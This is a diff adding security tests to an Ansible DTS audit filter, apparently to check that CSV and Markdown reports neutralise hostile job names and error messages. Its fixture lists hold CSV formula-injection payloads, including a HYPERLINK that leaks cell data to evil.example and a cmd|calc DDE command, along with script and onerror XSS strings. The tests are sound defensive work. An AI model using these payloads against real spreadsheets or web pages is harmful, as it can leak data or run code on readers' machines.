@@ -2,7 +2,12 @@
 # GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
 """The audit's rules: which records need a human, for both API families, and what the report counts."""
 
+import csv
+import io
+import re
+import unicodedata
 from collections.abc import Mapping
+from html.parser import HTMLParser
 
 import pytest
 from ansible.errors import AnsibleFilterError
@@ -10,6 +15,8 @@ from ansible.inventory.manager import InventoryManager
 from ansible.parsing.dataloader import DataLoader
 from ansible.vars.hostvars import HostVars
 from ansible.vars.manager import VariableManager
+from hypothesis import given, settings, strategies as st
+from markdown_it import MarkdownIt
 
 from ansible_collections.alibabacloud.dts.plugins.filter.dts_audit import (
     FilterModule,
@@ -339,9 +346,219 @@ def test_markdown_tables_escape_cells_and_format_columns():
     assert table.splitlines() == [
         '| region | job | detail | Failed |',
         '| --- | --- | --- | ---: |',
-        '| cn-hangzhou | `j1` | a \\| b c | 2 |',
+        '| cn-hangzhou | `j1` | a &#124; b c | 2 |',
         '| us-west-1 |  | - | 0 |',
     ]
+
+
+def test_a_status_spelled_with_a_dot_is_found_under_its_own_name():
+    rows = [{'statuses': {'Odd.Status': 3, 'Odd': {'Status': 9}}}, {'statuses': {'Failed': 1}}]
+    columns = [{'key': 'statuses.Odd.Status', 'numeric': True}, {'key': 'statuses.Failed.x', 'numeric': True}]
+    assert dts_audit_markdown(rows, columns).splitlines()[2:] == ['| 3 | 0 |', '| 0 | 0 |']
+
+
+# -- hostile text: whatever a job's creator writes into a name, a tag, an error message or a status ---
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '=1+1',
+    '\t=1+1',
+    '\r=1+1',
+    '\n@SUM(A1)',
+    '   =1+1',
+    '\u00a0=1+1',          # no-break space
+    '\u3000=1+1',          # ideographic space
+    '\u200b=1+1',          # zero-width space
+    '\ufeff=1+1',          # byte order mark
+    '\x00=1+1',
+    '\uff1d1+1',           # full-width =
+    '\uff0bcmd|x',         # full-width +
+    '\uff0d1',             # full-width -
+    '\uff20SUM(A1)',       # full-width @
+    '\ufe661+1',           # small =
+    '\u2212 1',            # minus sign
+    '-',
+]
+INERT_TEXT = ['orders-sync', 'a=b', 'DTS-070211: Connect Source DB failed', "it's", '', '1-2', 'cn-hangzhou']
+
+
+def read_csv(text):
+    return list(csv.reader(io.StringIO(text, newline='')))
+
+
+# Every character a spreadsheet might skip before it looks for a formula: blanks, controls, format characters.
+BLANKS = ''.join(chr(code) for code in range(0x110000)
+                 if chr(code).isspace() or unicodedata.category(chr(code)) in ('Cc', 'Cf'))
+
+
+def starts_a_formula(cell):
+    """What a spreadsheet would evaluate: the first character that is not blank is a formula start."""
+    first = cell.lstrip(BLANKS)[:1]
+    return bool(first) and unicodedata.normalize('NFKC', first) in ('=', '+', '-', '@', '\u2212')
+
+
+@pytest.mark.parametrize('value', FORMULAS)
+def test_csv_text_a_spreadsheet_would_evaluate_starts_with_an_apostrophe(value):
+    text = dts_audit_csv([{'job_name': value, 'detail': 'x'}], ['job_name', 'detail'])
+    rows = read_csv(text)
+    assert len(rows) == 2 and len(text.splitlines()) == 2, 'one line a row'
+    cell = rows[1][0]
+    assert cell.startswith("'"), cell
+    assert cell[1:] == one_line(value)
+    assert not starts_a_formula(cell)
+
+
+@pytest.mark.parametrize('value', INERT_TEXT)
+def test_csv_text_a_spreadsheet_shows_as_it_is_stays_as_it_is(value):
+    assert read_csv(dts_audit_csv([{'job_name': value}], ['job_name'], header=False)) == [[value]]
+
+
+def test_csv_numbers_the_audit_counts_stay_numbers_and_text_that_looks_like_one_does_not():
+    rows = [{'records': 3, 'delay': -5, 'ratio': -0.5, 'flag': True, 'name': '-5', 'status': '+1',
+             'odd': float('-inf')}]
+    assert read_csv(dts_audit_csv(rows, ['records', 'delay', 'ratio', 'flag', 'name', 'status', 'odd'],
+                                  header=False)) == [['3', '-5', '-0.5', 'True', "'-5", "'+1", "'-inf"]]
+
+
+def test_a_cell_that_tries_to_open_another_stays_one_cell():
+    value = 'x","=HYPERLINK(""http://evil.example"")\n=1+1,@SUM(A1);-1'
+    rows = read_csv(dts_audit_csv([{'a': value, 'b': 'next'}], ['a', 'b']))
+    assert rows[1] == [value.replace('\n', ' '), 'next']
+    assert all(not starts_a_formula(cell) for row in rows for cell in row)
+
+
+def test_csv_headings_are_neutralised_too():
+    assert read_csv(dts_audit_csv([], [{'key': 'a', 'heading': '=1+1'}]))[0] == ["'=1+1"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(), st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.text()))
+def test_no_csv_cell_starts_a_formula_and_every_cell_keeps_its_text(text, other):
+    rows = read_csv(dts_audit_csv([{'a': text, 'b': other}], ['a', 'b'], header=False))
+    assert len(rows) == 1 and len(rows[0]) == 2
+    for cell, value in zip(rows[0], (text, other)):
+        if isinstance(value, (int, float)):
+            assert cell == str(value)
+            continue
+        assert not starts_a_formula(cell)
+        assert cell in (one_line(value), "'" + one_line(value))
+
+
+# The Markdown a reader sees: markdown-it-py renders CommonMark with GitHub's tables and strikethrough,
+# raw HTML passed through as a CommonMark renderer does. The report must come out as table markup and
+# text, whatever the cells hold.
+RENDERER = MarkdownIt('commonmark').enable(['table', 'strikethrough'])
+TABLE_TAGS = {'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code'}
+
+MARKUP = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<b>bold</b> &amp; &lt;i&gt; &#124; &copy;',
+    '[click here](http://evil.example/reset)',
+    '![pixel](http://evil.example/p.png)',
+    '[ref]: http://evil.example',
+    '<http://evil.example>',
+    'see https://evil.example/x and www.evil.example and mailto:me@evil.example',
+    'a | b || c |',
+    'first line\nsecond line\r\nthird\u2028fourth',
+    '`code` and ``two``',
+    '**bold** __bold__ *em* _em_ ~~gone~~',
+    'back\\slash \\| \\',
+    'trailing backslash\\',
+    '\\`x\\`',
+    '\u202eexe.txt',
+    '# not a heading',
+    '- not a list',
+    '| --- | --- |',
+    '=HYPERLINK("http://evil.example")',
+]
+
+
+class _Table(HTMLParser):
+    """The tags of rendered HTML and the text of each table cell, row by row."""
+
+    def __init__(self, html):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.rows, self._cell = set(), [], None
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        if tag == 'tr':
+            self.rows.append([])
+        elif tag in ('td', 'th'):
+            self._cell = []
+
+    def handle_endtag(self, tag):
+        if tag in ('td', 'th'):
+            self.rows[-1].append(''.join(self._cell))
+            self._cell = None
+
+    def handle_data(self, data):
+        if self._cell is not None:
+            self._cell.append(data)
+
+
+def rendered(markdown):
+    return _Table(RENDERER.render(markdown))
+
+
+def one_line(value):
+    return re.sub('[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]+', ' ', value)
+
+
+@pytest.mark.parametrize('value', MARKUP + FORMULAS)
+@pytest.mark.parametrize('code', [False, True])
+def test_markdown_cells_render_as_the_text_they_hold(value, code):
+    columns = [{'key': 'region'}, {'key': 'value', 'heading': value, 'code': code}, {'key': 'after'}]
+    table = rendered(dts_audit_markdown([{'region': 'cn-hangzhou', 'value': value, 'after': 'end'}], columns))
+    assert table.tags <= TABLE_TAGS, table.tags
+    assert table.rows == [['region', one_line(value).strip(), 'after'],
+                          ['cn-hangzhou', one_line(value).strip(), 'end']]
+
+
+def test_markdown_breaks_the_addresses_github_would_make_links():
+    # GitHub links bare addresses (its autolink extension), which markdown-it-py leaves to a plugin.
+    table = dts_audit_markdown([{'a': 'https://evil.example www.evil.example WWW.evil.example me@evil.example'}], ['a'])
+    assert table.splitlines()[2] == '| https\\://evil.example www\\.evil.example WWW\\.evil.example me\\@evil.example |'
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(), st.booleans())
+def test_no_markdown_cell_renders_markup_or_breaks_the_table(text, code):
+    columns = [{'key': 'a'}, {'key': 'b', 'code': code}, {'key': 'c'}]
+    table = rendered(dts_audit_markdown([{'a': 'x', 'b': text, 'c': 'y'}], columns))
+    assert table.tags <= TABLE_TAGS, table.tags
+    assert len(table.rows) == 2 and table.rows[1][0] == 'x' and table.rows[1][2] == 'y', table.rows
+    assert table.rows[1][1].strip() == one_line(text).strip()
+
+
+def test_a_report_of_hostile_jobs_is_inert_in_both_formats():
+    hostile = '<img src=x onerror=alert(1)> [x](http://evil.example) | =cmd|\' /C calc\'!A0\n+1'
+    hostvars = {'a': legacy('dtsa', synchronization_job_name='=HYPERLINK("http://evil.example")',
+                            status='Failed', error_message=hostile),
+                'b': current('j2', 'dtsj2', job_name='@SUM(A1) <script>x</script>', status='<b>Odd</b>',
+                             delay=900)}
+    audit = report(dts_audit_records(hostvars))
+    findings = audit['findings']['failed'] + audit['findings']['delay']
+    assert len(findings) == 2
+    columns = ['job_name', 'status', 'delay', 'detail']
+    for row in read_csv(dts_audit_csv(findings, columns))[1:]:
+        assert not any(starts_a_formula(cell) for cell in row), row
+    assert read_csv(dts_audit_csv(findings, columns))[1:] == [
+        ["'=HYPERLINK(\"http://evil.example\")", 'Failed', '0', one_line(hostile)],
+        ["'@SUM(A1) <script>x</script>", '<b>Odd</b>', '900', '900 s']]
+    status_columns = [{'key': 'statuses.' + status, 'heading': status, 'numeric': True} for status in audit['statuses']]
+    for table, texts in ((dts_audit_markdown(findings, columns), [one_line(hostile).strip()]),
+                         (dts_audit_markdown(audit['audited'], ['region'] + status_columns), ['<b>Odd</b>'])):
+        parsed = rendered(table)
+        assert parsed.tags <= TABLE_TAGS, parsed.tags
+        cells = [cell for row in parsed.rows for cell in row]
+        assert all(text in cells for text in texts), cells
 
 
 @pytest.mark.parametrize('render', [dts_audit_csv, dts_audit_markdown])
